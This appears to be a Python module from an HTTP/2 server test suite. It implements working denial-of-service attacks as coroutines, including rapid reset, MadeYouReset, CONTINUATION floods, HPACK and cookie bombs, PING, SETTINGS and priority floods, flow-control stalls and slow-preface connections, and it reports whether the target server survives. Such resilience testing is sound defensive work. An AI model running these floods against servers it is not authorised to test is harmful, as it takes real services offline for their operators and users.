"""Floods, bombs and stalls: each is a coroutine on a connection that has shaken hands, or on a bare port.

Run as a program (`python3 -m http2_suite.attacks NAME PORT`) it plays one of them and prints how it ended, so that
the clock of whoever looks on is not the attacker's: `away CODE` (GOAWAY), `away` (closed, reset), or `served`.
"""

import asyncio
import sys

from .case import GET, OPEN, POST, UNFINISHED, request
from .wire import (
    CONTINUATION, DATA, GOAWAY, INITIAL_WINDOW, PREFACE, Closed, Code, Link, continuation, data, frame, headers, literal,
    ping, priority, rst, settings, window_update,
)

# How long a connection that has been flooded may take to answer a PING behind the flood, or to end.
PATIENCE = 8.0
_BOMB = 4000


def _streams(count, make):
    return b"".join(make(2 * n + 1) for n in range(count))


async def _repeat(link, one, times):
    """The same frames over and over, while somebody takes them."""
    chunk = one * max(1, 65536 // len(one))
    for _ in range(max(1, len(one) * times // len(chunk))):
        if link.taken:
            await link.send(chunk)


async def rapid_reset(link):
    """CVE-2023-44487: calls that are taken back before they have begun."""
    for at in range(0, 10_000, 100):
        await link.send(b"".join(request(stream=2 * n + 1) + rst(2 * n + 1) for n in range(at, at + 100)))


async def made_you_reset(link):
    """CVE-2025-8671: calls that the server itself resets, for a WINDOW_UPDATE of 0."""
    for at in range(0, 10_000, 100):
        await link.send(b"".join(request(stream=2 * n + 1, flags=OPEN) + window_update(2 * n + 1, 0) for n in range(at, at + 100)))


async def data_after_the_end(link):
    """The same with DATA on a stream that is half-closed."""
    for at in range(0, 10_000, 100):
        await link.send(b"".join(request(stream=2 * n + 1) + data(2 * n + 1, b"x") for n in range(at, at + 100)))


async def malformed_requests(link):
    """The same with requests that are none."""
    for at in range(0, 10_000, 100):
        await link.send(b"".join(request(GET[1:], stream=2 * n + 1) for n in range(at, at + 100)))


async def continuation_flood(link):
    """CVE-2024-27316: a field block that never ends, 128 MiB of it."""
    await link.send(request(flags=UNFINISHED))
    await _repeat(link, continuation(1, literal("x-long", "0" * 16000), 0), 8192)


async def empty_continuations(link):
    await link.send(request(flags=UNFINISHED))
    await _repeat(link, frame(CONTINUATION, 0, 1), 500_000)


async def hpack_bomb(link):
    """An entry of the table that a byte each repeats 16,000 times: 64 MB a block, eight times over."""
    put = literal("x-bomb", "0" * _BOMB, 0x40)
    for n in range(8):
        # The newest entry of the dynamic table is number 62 (RFC 7541 §2.3.3).
        await link.send(headers(2 * n + 1, b"".join(literal(*f) for f in GET) + put + b"\xbe" * 12_000))


async def cookie_bomb(link):
    """As many crumbs as fit in a block; put together again they are quadratic work for who is careless."""
    crumb = literal("cookie", "a=b", 0x40)
    for n in range(8):
        await link.send(headers(2 * n + 1, b"".join(literal(*f) for f in GET) + crumb + b"\xbe" * 15_000))


async def long_fields(link):
    """Field lists a little above 64 KiB, on a hundred streams."""
    long = literal("x-long", "0" * 16_000)
    for n in range(100):
        s = 2 * n + 1
        await link.send(request(stream=s, flags=UNFINISHED), *(continuation(s, long, 0) for _ in range(4)), continuation(s, long))


async def ping_flood(link):
    """CVE-2019-9512."""
    await _repeat(link, ping(), 500_000)


async def ping_flood_unread(link):
    """The same, and the answers are left to the proxy to keep."""
    await _repeat(link, ping(), 500_000)


async def settings_flood(link):
    """CVE-2019-9515."""
    await _repeat(link, settings((INITIAL_WINDOW, 65535)), 500_000)


async def empty_settings_unread(link):
    """SETTINGS that set nothing, and acknowledgements that nobody reads."""
    await _repeat(link, settings(), 500_000)


async def priority_flood(link):
    """CVE-2019-9513."""
    await _repeat(link, b"".join(priority(2 * n + 1, on=2 * n + 3) for n in range(1000)), 1000)


async def empty_data_flood(link):
    """CVE-2019-9518."""
    await link.send(request(POST, flags=OPEN))
    await _repeat(link, frame(DATA, 0, 1), 500_000)


async def padded_data_flood(link):
    """DATA of nothing but padding: it costs window, and carries nothing."""
    await link.send(request(POST, flags=OPEN))
    await _repeat(link, data(1, b"", 0, pad=0), 500_000)


async def window_update_flood(link):
    await _repeat(link, window_update(0, 1), 500_000)


async def stream_window_update_flood(link):
    await link.send(settings((INITIAL_WINDOW, 0)), request(_mib()))
    await _repeat(link, window_update(1, 1), 200_000)


async def window_toggle(link):
    """The windows of a hundred downloads opened and shut again, over and over: each change touches every stream."""
    await link.send(settings((INITIAL_WINDOW, 0)), _streams(100, lambda s: request(_mib(), stream=s)))
    await _repeat(link, settings((INITIAL_WINDOW, 1)) + settings((INITIAL_WINDOW, 0)), 100_000)


async def unknown_frames(link):
    await _repeat(link, frame(0xFA, 0xFF, 0, b""), 500_000)


async def no_window(link):
    """CVE-2019-9517: a hundred downloads of a MiB, none of which is taken."""
    await link.send(settings((INITIAL_WINDOW, 0)), _streams(100, lambda s: request(_mib(), stream=s)))


async def window_of_one(link):
    """CVE-2019-9511: downloads that are taken an octet at a time."""
    await link.send(settings((INITIAL_WINDOW, 1)), _streams(50, lambda s: request(_mib(), stream=s)))
    for _ in range(200):
        await link.send(_streams(50, lambda s: window_update(s, 1)))


async def unread(link):
    """Downloads with all the window in the world, and nobody who reads the socket."""
    top = (1 << 31) - 1
    await link.send(settings((INITIAL_WINDOW, top)), window_update(0, top - 65535))
    await link.send(_streams(100, lambda s: request(_mib(), stream=s)))


async def unused_streams(link):
    """Uploads that never come, as many as are allowed."""
    await link.send(_streams(link.settings.get(3, 100), lambda s: request(POST, stream=s, flags=OPEN)))


async def giant_frame(link):
    """A frame of 16 MiB, announced; its payload comes as if it were welcome."""
    await link.send(request(POST, flags=OPEN), frame(DATA, 0, 1, b"", length=(1 << 24) - 1))
    await _repeat(link, bytes(65536), 256)


def _mib():
    return [(name, "/mib" if name == ":path" else value) for name, value in GET]


async def half_preface(port):
    """Half of the preface, and then nothing: what HTTP is it?"""
    return await _waits_for_the_end(port, PREFACE[:12], b"")


async def slow_preface(port):
    """A byte of the preface a quarter of a second."""
    return await _waits_for_the_end(port, b"", PREFACE)


async def preface_alone(port):
    """The preface, and no SETTINGS after it."""
    return await _waits_for_the_end(port, PREFACE, b"")


async def slow_headers(port):
    """A field block that dribbles in, a byte a quarter of a second."""
    return await _waits_for_the_end(port, PREFACE + settings(), request(flags=UNFINISHED))


async def _waits_for_the_end(port, at_once, dribbled):
    async with await Link.open(port) as link:
        # An acknowledgement would fall into the middle of what dribbles.
        link.answering = False
        await link.send(at_once)
        for n in range(32):
            await link.send(dribbled[n : n + 1])
            try:
                async with asyncio.timeout(0.25):
                    while True:
                        await link.receive()
            except Closed:
                return "away"
            except TimeoutError:
                pass
        return "served"


async def many_prefaces(port):
    """2,000 connections that say who they are, and nothing more."""
    links = []
    for _ in range(2000):
        links.append(await Link.open(port))
        await links[-1].send(PREFACE, settings())
    ready = 0
    for link in links:
        try:
            async with asyncio.timeout(5):
                await link.receive()
            ready += 1
        except (Closed, TimeoutError):
            pass
    for link in links:
        link.close()
    return "served" if ready == len(links) else f"{ready} of {len(links)} greeted"


ON_PORTS = {a.__name__: a for a in (half_preface, slow_preface, preface_alone, slow_headers, many_prefaces)}
UNREAD = {a.__name__ for a in (ping_flood_unread, empty_settings_unread, unread)}


async def play(name, port):
    if name in ON_PORTS:
        return await ON_PORTS[name](port)
    async with await Link.open(port) as link:
        try:
            await link.handshake()
            flood = asyncio.create_task(_flood(link, globals()[name]))
            if name in UNREAD:
                # Until all is said, or nobody listens, and a while longer; only then what came is looked at.
                await asyncio.wait([flood], timeout=2)
                await asyncio.sleep(1.5)
            async with asyncio.timeout(PATIENCE):
                f = await link.until(lambda f: (f.kind == GOAWAY and f.code) or (f.acks and f.payload == b"stillup?"))
            return f"away {Code(f.code).name}" if f.kind == GOAWAY else "served"
        except Closed:
            return "away"
        except TimeoutError:
            return "unanswered"


async def _flood(link, attack):
    await attack(link)
    await link.send(ping(b"stillup?"))


if __name__ == "__main__":
    print(asyncio.run(play(sys.argv[1], int(sys.argv[2]))))
